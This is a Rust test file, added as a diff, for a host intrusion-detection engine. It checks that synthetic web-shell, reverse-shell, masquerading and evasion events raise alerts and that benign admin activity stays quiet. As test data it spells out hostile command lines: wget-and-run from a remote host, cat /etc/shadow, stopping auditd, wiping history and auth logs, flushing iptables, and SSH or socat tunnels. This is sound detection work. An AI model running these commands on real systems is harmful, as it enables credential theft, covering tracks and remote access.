@@ -1,0 +1,775 @@
+//! The engine and the built-in pack over synthetic events: each behaviour
+//! must alert, and each benign look-alike must stay quiet.
+
+use serde_json::{json, Value};
+
+use super::{rule, Engine};
+use crate::config::Source;
+
+const T0: u64 = 1_764_115_200; // 2025-11-26T00:00:00Z
+
+fn ts(secs: u64) -> String {
+    humantime::format_rfc3339_nanos(
+        std::time::UNIX_EPOCH + std::time::Duration::from_secs(T0 + secs),
+    )
+    .to_string()
+}
+
+fn ancestry(chain: &[(u64, &str)]) -> Value {
+    Value::Array(
+        chain
+            .iter()
+            .map(|(p, e)| json!({"pid": p, "exe": e}))
+            .collect(),
+    )
+}
+
+/// An exec event; `chain` is the ancestry, parent first.
+fn exec(t: u64, pid: u64, exe: &str, argv: &[&str], chain: &[(u64, &str)]) -> Value {
+    json!({
+        "kind": "exec", "ts": ts(t), "pid": pid, "tid": pid,
+        "ppid": chain.first().map_or(1, |c| c.0), "uid": 33, "euid": 33, "gid": 33, "egid": 33,
+        "comm": argv.first().map_or("x", |a| a.rsplit('/').next().unwrap_or(a)),
+        "cgroup_id": 1, "exe": exe, "exe_deleted": false, "exe_truncated": false,
+        "argv": argv, "argv_truncated": false, "cwd": "/", "cwd_truncated": false,
+        "stdio": ["chardev", "pipe", "pipe"], "ancestry": ancestry(chain),
+    })
+}
+
+fn with(mut v: Value, key: &str, value: Value) -> Value {
+    v[key] = value;
+    v
+}
+
+fn net(t: u64, kind: &str, pid: u64, exe: &str, chain: &[(u64, &str)], local_port: u16) -> Value {
+    json!({
+        "kind": kind, "ts": ts(t), "proto": "tcp", "netns": 1, "socket": pid * 10,
+        "local": {"addr": "0.0.0.0", "port": local_port},
+        "remote": {"addr": "203.0.113.9", "port": 4444},
+        "process": {"pid": pid, "comm": "x", "uid": 33, "exe": exe, "argv": [exe], "ancestry": ancestry(chain)},
+        "result": "established",
+    })
+}
+
+fn builtin() -> Engine {
+    Engine::new(rule::load(true, &[]).expect("built-in rules"))
+}
+
+/// Rule ids of the alerts the events raise, in order.
+fn fired(engine: &mut Engine, events: &[Value]) -> Vec<String> {
+    let mut ids = Vec::new();
+    for e in events {
+        ids.extend(engine.observe(e).into_iter().map(|a| a.rule));
+    }
+    ids
+}
+
+const INIT: (u64, &str) = (1, "/usr/lib/systemd/systemd");
+const NGINX: (u64, &str) = (100, "/usr/sbin/nginx");
+const WORKER: (u64, &str) = (101, "/usr/sbin/nginx");
+const SSHD: (u64, &str) = (50, "/usr/sbin/sshd");
+
+/// nginx master listening on :80, as every web-shell scenario starts.
+fn web_server(engine: &mut Engine) {
+    let listen = net(0, "listen", NGINX.0, NGINX.1, &[INIT], 80);
+    assert!(fired(engine, &[listen]).is_empty());
+}
+
+#[test]
+fn web_shell_spawning_a_shell_alerts() {
+    let mut e = builtin();
+    web_server(&mut e);
+    let sh = exec(
+        1,
+        200,
+        "/usr/bin/dash",
+        &["sh", "-c", "id"],
+        &[WORKER, NGINX, INIT],
+    );
+    assert_eq!(fired(&mut e, &[sh]), ["EW-PROC-001"]);
+    let id = exec(
+        2,
+        201,
+        "/usr/bin/id",
+        &["id"],
+        &[(200, "/usr/bin/dash"), WORKER, NGINX, INIT],
+    );
+    assert_eq!(fired(&mut e, &[id]), ["EW-DISC-001"]);
+}
+
+#[test]
+fn busybox_applets_are_seen_through() {
+    let mut e = builtin();
+    web_server(&mut e);
+    let sh = exec(
+        1,
+        200,
+        "/bin/busybox",
+        &["sh", "-c", "x"],
+        &[WORKER, NGINX, INIT],
+    );
+    assert_eq!(fired(&mut e, &[sh]), ["EW-PROC-001"]);
+    let mut e = builtin();
+    let wget = exec(
+        1,
+        300,
+        "/bin/busybox",
+        &["wget", "http://198.51.100.7/x", "-O", "/tmp/x"],
+        &[(250, "/bin/busybox"), INIT],
+    );
+    let run = exec(
+        5,
+        301,
+        "/tmp/x",
+        &["/tmp/x"],
+        &[(250, "/bin/busybox"), INIT],
+    );
+    let ids = fired(&mut e, &[wget, run]);
+    assert!(ids.contains(&"EW-PROC-005".to_owned()), "{ids:?}");
+}
+
+#[test]
+fn admin_ssh_session_stays_quiet() {
+    let mut e = builtin();
+    let listen = net(0, "listen", SSHD.0, SSHD.1, &[INIT], 22);
+    assert!(fired(&mut e, &[listen]).is_empty());
+    let session = [(60, "/usr/sbin/sshd"), SSHD, INIT];
+    let bash = with(
+        exec(1, 70, "/usr/bin/bash", &["-bash"], &session),
+        "auid",
+        json!(1000),
+    );
+    let bash = with(bash, "stdio", json!(["tty", "tty", "tty"]));
+    let shell = [(70, "/usr/bin/bash"), (60, "/usr/sbin/sshd"), SSHD, INIT];
+    let cmds = [
+        with(
+            exec(2, 71, "/usr/bin/uname", &["uname", "-a"], &shell),
+            "auid",
+            json!(1000),
+        ),
+        with(
+            exec(3, 72, "/usr/bin/ps", &["ps", "aux"], &shell),
+            "auid",
+            json!(1000),
+        ),
+        with(
+            exec(4, 73, "/usr/bin/cat", &["cat", "/etc/hosts"], &shell),
+            "auid",
+            json!(1000),
+        ),
+    ];
+    let mut events = vec![bash];
+    events.extend(cmds);
+    assert!(fired(&mut e, &events).is_empty());
+}
+
+#[test]
+fn reverse_shell_with_socket_stdio() {
+    let mut e = builtin();
+    let sh = with(
+        exec(1, 400, "/usr/bin/bash", &["bash", "-i"], &[INIT]),
+        "stdio",
+        json!(["socket", "socket", "socket"]),
+    );
+    assert_eq!(fired(&mut e, &[sh]), ["EW-PROC-002"]);
+    let py = with(
+        exec(
+            1,
+            401,
+            "/usr/bin/python3.11",
+            &["python3", "-c", "x"],
+            &[INIT],
+        ),
+        "stdio",
+        json!(["socket", "pipe", "pipe"]),
+    );
+    assert_eq!(fired(&mut e, &[py]), ["EW-PROC-002"]);
+    let tty = with(
+        exec(1, 402, "/usr/bin/bash", &["bash"], &[INIT]),
+        "stdio",
+        json!(["tty", "tty", "tty"]),
+    );
+    assert!(fired(&mut e, &[tty]).is_empty());
+}
+
+#[test]
+fn execution_from_tmp_memfd_and_deleted_files() {
+    let mut e = builtin();
+    assert_eq!(
+        fired(
+            &mut e,
+            &[exec(1, 500, "/tmp/.x/agent", &["/tmp/.x/agent"], &[INIT])]
+        ),
+        ["EW-PROC-003"]
+    );
+    assert_eq!(
+        fired(
+            &mut e,
+            &[exec(1, 501, "/dev/shm/k", &["/dev/shm/k"], &[INIT])]
+        ),
+        ["EW-PROC-003"]
+    );
+    assert_eq!(
+        fired(&mut e, &[exec(1, 502, "/memfd:x", &["x"], &[INIT])]),
+        ["EW-PROC-004"]
+    );
+    let deleted = with(
+        exec(1, 503, "/usr/local/bin/gone", &["gone"], &[INIT]),
+        "exe_deleted",
+        json!(true),
+    );
+    assert_eq!(fired(&mut e, &[deleted]), ["EW-PROC-004"]);
+    assert!(fired(
+        &mut e,
+        &[exec(
+            1,
+            504,
+            "/memfd:runc_cloned:/proc/self/exe",
+            &["runc"],
+            &[INIT]
+        )]
+    )
+    .is_empty());
+    assert!(fired(&mut e, &[exec(1, 505, "/usr/bin/true", &["true"], &[INIT])]).is_empty());
+}
+
+#[test]
+fn masquerading() {
+    let mut e = builtin();
+    let kthread = exec(1, 600, "/usr/bin/python3.11", &["[kworker/0:1]"], &[INIT]);
+    let ids = fired(&mut e, &[kthread]);
+    assert!(
+        ids.contains(&"EW-PROC-006".to_owned()) && ids.contains(&"EW-PROC-007".to_owned()),
+        "{ids:?}"
+    );
+    let renamed = exec(1, 601, "/usr/bin/socat", &["sshd"], &[INIT]);
+    assert_eq!(fired(&mut e, &[renamed]), ["EW-PROC-007"]);
+    let python = exec(1, 602, "/usr/bin/python3.11", &["python3"], &[INIT]);
+    assert!(fired(&mut e, &[python]).is_empty());
+}
+
+#[test]
+fn credentials_and_evasion() {
+    let mut e = builtin();
+    assert_eq!(
+        fired(
+            &mut e,
+            &[exec(
+                1,
+                700,
+                "/usr/bin/cat",
+                &["cat", "/etc/shadow"],
+                &[INIT]
+            )]
+        ),
+        ["EW-CRED-001"]
+    );
+    assert!(fired(
+        &mut e,
+        &[exec(
+            1,
+            701,
+            "/usr/bin/passwd",
+            &["passwd", "/etc/shadow"],
+            &[INIT]
+        )]
+    )
+    .is_empty());
+    assert_eq!(
+        fired(
+            &mut e,
+            &[exec(
+                2,
+                702,
+                "/usr/bin/pkill",
+                &["pkill", "-9", "rsyslogd"],
+                &[INIT]
+            )]
+        ),
+        ["EW-EVADE-001"]
+    );
+    assert_eq!(
+        fired(
+            &mut e,
+            &[exec(
+                2,
+                703,
+                "/usr/bin/systemctl",
+                &["systemctl", "stop", "auditd"],
+                &[INIT]
+            )]
+        ),
+        ["EW-EVADE-001"]
+    );
+    assert!(fired(
+        &mut e,
+        &[exec(
+            2,
+            704,
+            "/usr/bin/systemctl",
+            &["systemctl", "restart", "nginx"],
+            &[INIT]
+        )]
+    )
+    .is_empty());
+    assert_eq!(
+        fired(
+            &mut e,
+            &[exec(
+                3,
+                705,
+                "/usr/bin/rm",
+                &["rm", "-f", "/root/.bash_history"],
+                &[INIT]
+            )]
+        ),
+        ["EW-EVADE-002"]
+    );
+    assert_eq!(
+        fired(
+            &mut e,
+            &[exec(
+                3,
+                706,
+                "/usr/bin/truncate",
+                &["truncate", "-s0", "/var/log/auth.log"],
+                &[INIT]
+            )]
+        ),
+        ["EW-EVADE-002"]
+    );
+    assert_eq!(
+        fired(
+            &mut e,
+            &[exec(
+                4,
+                707,
+                "/usr/sbin/xtables-nft-multi",
+                &["iptables", "-F"],
+                &[INIT]
+            )]
+        ),
+        ["EW-EVADE-003"]
+    );
+    assert_eq!(
+        fired(
+            &mut e,
+            &[exec(
+                4,
+                708,
+                "/usr/sbin/nft",
+                &["nft", "flush", "ruleset"],
+                &[INIT]
+            )]
+        ),
+        ["EW-EVADE-003"]
+    );
+    assert!(fired(
+        &mut e,
+        &[exec(
+            4,
+            709,
+            "/usr/sbin/xtables-nft-multi",
+            &["iptables", "-L", "-n"],
+            &[INIT]
+        )]
+    )
+    .is_empty());
+}
+
+#[test]
+fn listeners_and_firewall_openings() {
+    let mut e = builtin();
+    web_server(&mut e);
+    // A bind shell below the web server.
+    let bind = net(
+        1,
+        "listen",
+        800,
+        "/usr/bin/python3.11",
+        &[WORKER, NGINX, INIT],
+        31337,
+    );
+    assert_eq!(fired(&mut e, &[bind]), ["EW-NET-001"]);
+    // The web server's own listener, and an admin's, stay quiet.
+    let admin = with(
+        net(
+            2,
+            "listen",
+            801,
+            "/usr/bin/python3.11",
+            &[(70, "/usr/bin/bash"), SSHD, INIT],
+            8000,
+        ),
+        "process",
+        json!({"pid": 801, "exe": "/usr/bin/python3.11", "auid": 1000, "ancestry": ancestry(&[(70, "/usr/bin/bash"), SSHD, INIT])}),
+    );
+    let mut e2 = builtin();
+    let ssh_listen = net(0, "listen", SSHD.0, SSHD.1, &[INIT], 22);
+    assert!(fired(&mut e2, &[ssh_listen, admin]).is_empty());
+    // Firewall opened, then a listener by a sibling.
+    let mut e3 = builtin();
+    let rule = exec(
+        1,
+        900,
+        "/usr/sbin/xtables-nft-multi",
+        &[
+            "iptables", "-I", "INPUT", "-p", "tcp", "--dport", "4444", "-j", "ACCEPT",
+        ],
+        &[(890, "/usr/bin/bash"), INIT],
+    );
+    let listen = net(
+        10,
+        "listen",
+        901,
+        "/usr/bin/nc.openbsd",
+        &[(890, "/usr/bin/bash"), INIT],
+        4444,
+    );
+    assert_eq!(fired(&mut e3, &[rule, listen]), ["EW-NET-002"]);
+}
+
+#[test]
+fn tunnel_command_lines() {
+    let mut e = builtin();
+    assert_eq!(
+        fired(
+            &mut e,
+            &[exec(
+                1,
+                1000,
+                "/usr/bin/ssh",
+                &["ssh", "-NR", "8080:127.0.0.1:80", "user@203.0.113.5"],
+                &[INIT]
+            )]
+        ),
+        ["EW-TUN-001"]
+    );
+    assert_eq!(
+        fired(
+            &mut e,
+            &[exec(
+                1,
+                1001,
+                "/usr/bin/socat",
+                &["socat", "TCP-LISTEN:8443,fork", "TCP:192.0.2.10:443"],
+                &[INIT]
+            )]
+        ),
+        ["EW-TUN-001"]
+    );
+    assert_eq!(
+        fired(
+            &mut e,
+            &[exec(
+                1,
+                1002,
+                "/tmp/frpc",
+                &["./frpc", "-c", "frpc.ini"],
+                &[INIT]
+            )]
+        ),
+        ["EW-PROC-003", "EW-TUN-001"]
+    );
+    assert!(fired(
+        &mut e,
+        &[exec(
+            1,
+            1003,
+            "/usr/bin/ssh",
+            &["ssh", "admin@192.0.2.1", "uptime"],
+            &[INIT]
+        )]
+    )
+    .is_empty());
+}
+
+#[test]
+fn service_shell_then_outbound_connection_within_a_minute() {
+    let mut e = builtin();
+    web_server(&mut e);
+    let sh = exec(
+        1,
+        200,
+        "/usr/bin/dash",
+        &["sh", "-c", "x"],
+        &[WORKER, NGINX, INIT],
+    );
+    let conn = net(
+        30,
+        "connect_result",
+        202,
+        "/usr/bin/nc.openbsd",
+        &[(200, "/usr/bin/dash"), WORKER, NGINX, INIT],
+        40000,
+    );
+    let ids = fired(&mut e, &[sh, conn]);
+    assert_eq!(ids, ["EW-PROC-001", "EW-SEQ-001"]);
+    // Too late: outside the window.
+    let mut e = builtin();
+    web_server(&mut e);
+    let sh = exec(
+        1,
+        300,
+        "/usr/bin/dash",
+        &["sh", "-c", "x"],
+        &[WORKER, NGINX, INIT],
+    );
+    let conn = net(
+        62,
+        "connect_result",
+        302,
+        "/usr/bin/nc.openbsd",
+        &[(300, "/usr/bin/dash"), WORKER, NGINX, INIT],
+        40001,
+    );
+    assert_eq!(fired(&mut e, &[sh, conn]), ["EW-PROC-001"]);
+}
+
+#[test]
+fn benign_look_alikes_stay_quiet() {
+    let mut e = builtin();
+    web_server(&mut e);
+    // nginx reverse proxy: accepts, connects upstream, no processes.
+    let accept = net(1, "accept", WORKER.0, WORKER.1, &[NGINX, INIT], 80);
+    let upstream = net(
+        1,
+        "connect_result",
+        WORKER.0,
+        WORKER.1,
+        &[NGINX, INIT],
+        41000,
+    );
+    // A package manager downloading and installing (admin session).
+    let apt = [(300, "/usr/bin/apt-get")];
+    let install = [
+        with(
+            exec(
+                2,
+                300,
+                "/usr/bin/apt-get",
+                &["apt-get", "install", "-y", "jq"],
+                &[(70, "/usr/bin/bash"), INIT],
+            ),
+            "auid",
+            json!(1000),
+        ),
+        with(
+            exec(
+                3,
+                301,
+                "/usr/lib/apt/methods/http",
+                &["/usr/lib/apt/methods/http"],
+                &apt,
+            ),
+            "auid",
+            json!(1000),
+        ),
+        with(
+            exec(
+                4,
+                302,
+                "/usr/bin/dpkg",
+                &[
+                    "/usr/bin/dpkg",
+                    "--unpack",
+                    "/var/cache/apt/archives/jq.deb",
+                ],
+                &apt,
+            ),
+            "auid",
+            json!(1000),
+        ),
+    ];
+    // cron's health check.
+    let cron = [(400, "/usr/sbin/cron"), INIT];
+    let health = [
+        exec(
+            5,
+            401,
+            "/usr/bin/dash",
+            &["/bin/sh", "-c", "curl -fsS http://127.0.0.1/health"],
+            &cron,
+        ),
+        exec(
+            5,
+            402,
+            "/usr/bin/curl",
+            &["curl", "-fsS", "http://127.0.0.1/health"],
+            &[(401, "/usr/bin/dash"), (400, "/usr/sbin/cron"), INIT],
+        ),
+    ];
+    // logrotate from cron, and a DHCP client's hook script.
+    let rotate = exec(
+        6,
+        410,
+        "/usr/sbin/logrotate",
+        &["/usr/sbin/logrotate", "/etc/logrotate.conf"],
+        &cron,
+    );
+    let dhcp = [(500, "/sbin/dhclient"), INIT];
+    let hooks = [
+        exec(
+            7,
+            501,
+            "/usr/bin/dash",
+            &["/bin/sh", "/sbin/dhclient-script"],
+            &dhcp,
+        ),
+        exec(
+            7,
+            502,
+            "/usr/bin/ip",
+            &["ip", "-4", "addr", "add", "192.0.2.20/24", "dev", "eth0"],
+            &[(501, "/usr/bin/dash"), (500, "/sbin/dhclient"), INIT],
+        ),
+    ];
+    let mut events = vec![accept, upstream];
+    events.extend(install);
+    events.extend(health);
+    events.push(rotate);
+    events.extend(hooks);
+    assert!(fired(&mut e, &events).is_empty());
+}
+
+#[test]
+fn repeats_fold_into_one_alert_with_a_count() {
+    let mut e = builtin();
+    let ids = fired(
+        &mut e,
+        &[
+            exec(1, 10, "/tmp/a", &["/tmp/a"], &[(5, "/usr/bin/bash"), INIT]),
+            exec(2, 11, "/tmp/a", &["/tmp/a"], &[(5, "/usr/bin/bash"), INIT]),
+            exec(3, 12, "/tmp/a", &["/tmp/a"], &[(5, "/usr/bin/bash"), INIT]),
+        ],
+    );
+    assert_eq!(ids, ["EW-PROC-003"]);
+    assert_eq!(e.stats.deduplicated.get("EW-PROC-003"), Some(&2));
+    let flushed = e.flush();
+    assert_eq!(flushed.len(), 1);
+    assert!(flushed[0].repeat);
+    assert_eq!(flushed[0].count, 3);
+    // A later window raises a fresh alert.
+    let later = exec(
+        200,
+        13,
+        "/tmp/a",
+        &["/tmp/a"],
+        &[(5, "/usr/bin/bash"), INIT],
+    );
+    assert_eq!(fired(&mut e, &[later]), ["EW-PROC-003"]);
+}
+
+#[test]
+fn rate_limits_count_what_they_hold_back() {
+    let text = r#"
+[[rule]]
+id = "T-1"
+title = "any exec"
+severity = "info"
+attack = ["T1059"]
+kinds = ["exec"]
+dedup_secs = 0
+rate_limit = { max = 2, per_secs = 60 }
+"#;
+    let rules = rule::parse(&Source {
+        name: "t.toml",
+        text,
+    })
+    .expect("rule");
+    let mut e = Engine::new(rules);
+    let events: Vec<Value> = (0..5)
+        .map(|i| exec(i, 10 + i, "/usr/bin/true", &["true"], &[INIT]))
+        .collect();
+    assert_eq!(fired(&mut e, &events).len(), 2);
+    assert_eq!(e.stats.rate_limited.get("T-1"), Some(&3));
+    assert_eq!(
+        fired(&mut e, &[exec(70, 99, "/usr/bin/true", &["true"], &[INIT])]).len(),
+        1
+    );
+}
+
+#[test]
+fn alert_names_process_connections_and_evidence() {
+    let mut e = builtin();
+    web_server(&mut e);
+    let sh = exec(
+        1,
+        200,
+        "/usr/bin/dash",
+        &["sh", "-c", "x"],
+        &[WORKER, NGINX, INIT],
+    );
+    let conn = net(
+        2,
+        "connect_result",
+        200,
+        "/usr/bin/dash",
+        &[WORKER, NGINX, INIT],
+        40000,
+    );
+    let mut alerts = e.observe(&sh);
+    alerts.extend(e.observe(&conn));
+    let seq = alerts
+        .iter()
+        .find(|a| a.rule == "EW-SEQ-001")
+        .expect("sequence alert");
+    let v = serde_json::to_value(seq).expect("json");
+    assert_eq!(v["severity"], "critical");
+    assert_eq!(v["attack"][0], "T1190");
+    assert_eq!(v["process"]["pid"], 200);
+    assert_eq!(v["process"]["ancestry"][1]["pid"], 100);
+    assert_eq!(v["connections"][0]["remote"]["port"], 4444);
+    assert_eq!(v["evidence"].as_array().map(Vec::len), Some(2));
+    assert_eq!(v["lineage"], 100);
+    assert_eq!(v["count"], 1);
+}
+
+#[test]
+fn exceptions_and_combinators() {
+    let text = r#"
+[[rule]]
+id = "T-2"
+title = "t"
+severity = "low"
+attack = ["T1059"]
+kinds = ["exec"]
+match = [
+    { any = [{ field = "exe", suffix = "/nc" }, { field = "exe", glob = "/opt/*/bin/nc*" }] },
+    { not = { field = "uid", equals = 0 } },
+]
+except = [{ field = "argv", contains = "--safe" }]
+"#;
+    let rules = rule::parse(&Source {
+        name: "t.toml",
+        text,
+    })
+    .expect("rule");
+    let mut e = Engine::new(rules);
+    assert_eq!(
+        fired(&mut e, &[exec(1, 1, "/usr/bin/nc", &["nc"], &[INIT])]).len(),
+        1
+    );
+    assert_eq!(
+        fired(
+            &mut e,
+            &[exec(1, 2, "/opt/x/bin/ncat", &["ncat"], &[(3, "/x")])]
+        )
+        .len(),
+        1
+    );
+    assert!(fired(
+        &mut e,
+        &[exec(1, 4, "/usr/bin/nc", &["nc", "--safe"], &[(5, "/y")])]
+    )
+    .is_empty());
+    assert!(fired(
+        &mut e,
+        &[with(
+            exec(1, 6, "/usr/bin/nc", &["nc"], &[(7, "/z")]),
+            "uid",
+            json!(0)
+        )]
+    )
+    .is_empty());
+}
